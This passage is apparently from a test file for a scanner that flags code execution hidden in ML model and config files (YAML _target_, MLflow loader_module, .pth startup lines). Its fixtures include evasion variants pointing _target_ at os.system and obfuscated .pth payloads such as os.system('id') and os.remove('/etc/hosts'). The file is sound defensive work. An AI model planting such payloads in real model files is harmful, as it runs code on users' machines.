    ['a target with a tag', 'a.yaml', '_target_: !!str os.system\n', 'CRITICAL settings-call-dangerous'],
    ['a target with an anchor', 'a.yaml', '_target_: &a os.system\n', 'CRITICAL settings-call-dangerous'],
    ['a folded target', 'a.yaml', '_target_: >-\n  os.system\n', 'CRITICAL settings-call-dangerous'],
    [
      'a target behind a comment',
      'a.yaml',
      '_target_: # x\n                    os.system\n',
      'CRITICAL settings-call-dangerous',
    ],
    ['a target in two lines', 'a.yaml', '_target_: "os.\\\n    system"\n', 'CRITICAL settings-call-dangerous'],
    [
      'a target that is an alias of something far away',
      'a.yaml',
      `x: &a os.system\n${'# padding\n'.repeat(20_000)}_target_: *a\n`,
      'CRITICAL settings-call-dangerous',
    ],
    [
      'the same in a file that is too large to be read whole',
      'a.yaml',
      `x: &a os.system\n${'# padding\n'.repeat(120_000)}_target_: *a\n`,
      'CRITICAL settings-call-dangerous',
    ],
    [
      'a target merged in',
      'a.yaml',
      'x: &a {_target_: &b os.system}\ny: {<<: *a}\n',
      'CRITICAL settings-call-dangerous',
    ],
    ['a key that is an alias', 'a.yaml', 'x: &k _target_\ny: {*k : os.system}\n', 'CRITICAL settings-call-dangerous'],
    [
      'a target that another key says',
      'a.yaml',
      `x: {y: os}\n_target_: ${value('x.y')}.system\n`,
      'CRITICAL settings-call-dangerous',
    ],
    [
      'a target that a key beside it says',
      'a.yaml',
      `m: {n: os.system, _target_: "${value('.n')}"}\n`,
      'CRITICAL settings-call-dangerous',
    ],
    [
      'a target that a key above it says',
      'a.yaml',
      `n: os.system\nm: {_target_: "${value('..n')}"}\n`,
      'CRITICAL settings-call-dangerous',
    ],
    ['a target of the environment', 'a.yaml', `_target_: ${value('oc.env:X')}\n`, 'HIGH settings-call-computed'],
    ['a target in a list', 'config.json', '[[{"_target_": "os.system"}]]', 'CRITICAL settings-call-dangerous'],
    ['a target that is an alias', 'a.yaml', 'x: &a os.system\n_target_: *a\n', 'CRITICAL settings-call-dangerous'],
    [
      'a module of its own among sentence-transformers',
      'modules.json',
      '[{"idx":0,"path":"","type":"custom_st.Transformer"}]',
      'HIGH model-imports-module',
    ],
    [
      'escapes in the value of MLflow',
      'MLmodel',
      'flavors:\n  python_function:\n    loader_module: "\\x65vil"\n',
      'HIGH model-brings-code',
    ],
    [
      'escapes in the key',
      'MLmodel',
      'flavors:\n  python_function:\n    "loader\\x5fmodule": evil\n',
      'HIGH model-brings-code',
    ],
    [
      'a tag before the value',
      'MLmodel',
      'flavors:\n  python_function:\n    loader_module: !!str evil\n',
      'HIGH model-brings-code',
    ],
    [
      'an anchor before the value',
      'MLmodel',
      'flavors:\n  python_function:\n    loader_module: &x evil\n',
      'HIGH model-brings-code',
    ],
    [
      'a folded value',
      'MLmodel',
      'flavors:\n  python_function:\n    loader_module: >-\n      evil\n',
      'HIGH model-brings-code',
    ],
    ['a list of folders', 'MLmodel', 'flavors:\n  python_function:\n    code_paths: [a]\n', 'HIGH model-brings-code'],
    [
      'a list of folders in lines',
      'MLmodel',
      'flavors:\n  python_function:\n    code_paths:\n    - a\n',
      'HIGH model-brings-code',
    ],
    [
      'code after what looks like metadata',
      'MLmodel',
      'metadata:\n  a: b\nflavors:\n  python_function:\n    code: c\n',
      'HIGH model-brings-code',
    ],
  ])('%s', (_, name, text, risk) => {
    expect(said(`app/m/${name}`, text)).toContain(risk);
  });

  it('YAML in UTF-16', () => {
    const text = Buffer.from('\ufeff_target_: os.system\n', 'utf16le');
    expect(said('app/a.yaml', text)).toContain('CRITICAL settings-call-dangerous');
    expect(said('app/a.yaml', Buffer.from(text).swap16())).toContain('CRITICAL settings-call-dangerous');
    const renamed = Buffer.from('\ufeff%TAG ! tag:yaml.org,2002:python/\n---\na: 1\n', 'utf16le');
    expect(said('app/a.yaml', renamed)).toContain('HIGH yaml-renames-python-tags');
  });

  it.each<[string, string]>([
    ['config.json', '{"eps": NaN, "vocab_size": 3}'],
    ['config.json', '{"auto_map": "yes"}'],
    ['a.yaml', '%TAG ! tag:example.com,2000:app/\n---\na: !foo 1\n'],
    ['a.yaml', '%TAG !! tag:yaml.org,2002:\n---\na: !!str 1\n'],
    ['a.yaml', 'x: &a torch.nn.Linear\n_target_: *a\n'],
    ['MLmodel', 'flavors:\n  sklearn:\n    code: null\nmetadata:\n  code: A12\n  owner: me\nrun_id: 1\n'],
    ['MLmodel', 'flavors:\n  python_function:\n    code:\n    loader_module: mlflow.sklearn\n'],
    ...[
      'alt_diffusion',
      'vq_diffusion',
      'versatile_diffusion',
      'spectrogram_diffusion',
      'deprecated',
      'stable_diffusion_safe',
      'latent_diffusion',
      'unidiffuser',
    ].map((folder): [string, string] => ['model_index.json', `{"_class_name": "P", "part": ["${folder}", "Encoder"]}`]),
    ...['torch.nn.modules.container', 'torchvision.models.resnet', 'transformers.models.bert', '__main__'].map(
      (library): [string, string] => [
        'adapter_config.json',
        `{"auto_mapping": {"parent_library": "${library}", "base_model_class": "Net"}}`,
      ],
    ),
  ])('but nothing of %s: %s', (name, text) => {
    expect(said(`app/m/${name}`, text)).toEqual([]);
  });

  it('lines of a .pth that looks like a model, or spells what it calls', () => {
    const at = 'usr/lib/python3/dist-packages/x.pth';
    for (const head of ['PK\x03\x04\n', '\x80\n'])
      expect(said(at, Buffer.from(`${head}import os; os.system("id")\n`, 'latin1'))).toContain(
        'HIGH python-start-runs-code',
      );
    expect(said(at, 'import os; getattr(os,"sys"+"tem")("id")\n')).toContain('HIGH python-start-runs-code');
    expect(said(at, 'import os; os.remove("/etc/hosts")\n')).toContain('LOW python-start-runs-code');
    expect(said(at, 'import os; get = os.remove; get("/etc/hosts")\n')).toContain('LOW python-start-runs-code');
    expect(said(at, 'import os; from os import remove as get; get("/x")\n')).toContain('LOW python-start-runs-code');
    expect(said(at, "import os; os.__dict__.get('sys''tem')('id')\n")).toContain('LOW python-start-runs-code');
    expect(
      said(
        at,
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
      ),
    ).toEqual([]);
    expect(said(at, 'import coverage; coverage.process_startup()\nimport pywin32_bootstrap\n')).toEqual([]);
  });

  it('an object of R in a folder that is called library', () => {
    const rds = gzipSync('X\n\0\0\0\x03');
    expect(said('opt/library/m.rds', rds)).toEqual(['? a serialized R object: the object is cut short']);
    expect(said('opt/app/library/m/m.rds', rds)).toEqual(['? a serialized R object: the object is cut short']);
    for (const place of [
      'usr/lib/R/library/a/Meta',
      'usr/local/lib/R/site-library/a/extdata',
      'opt/conda/lib/R/library/a',
      'srv/renv/library/R-4.3/x86_64/a/Meta',
    ])
      expect(said(`${place}/m.rds`, rds)).toEqual([]);
  });
});
